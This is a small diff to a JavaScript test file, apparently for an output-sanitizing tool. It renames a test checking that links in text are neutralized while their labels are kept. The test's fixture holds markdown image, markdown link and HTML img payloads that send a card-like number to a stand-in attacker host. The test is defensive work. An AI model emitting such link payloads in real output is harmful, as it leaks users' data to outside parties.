@@ -86,7 +86,7 @@ test('values of a vault count as conversation', () => {
   ])
 })
 
-test('neutralized text holds no link to fetch and keeps labels', () => {
+test('C34 C54 neutralized text holds no link to fetch and keeps labels', () => {
   const text = `A ![chart](https://evil.example/?q=4111111111111111) and [more](https://evil.example/?q=4111111111111111), <img src="https://evil.example/?q=4111111111111111">.`
   const clean = neutralizeLinks(text, inspectOutput(text, options).findings)
   expect(clean).toBe(
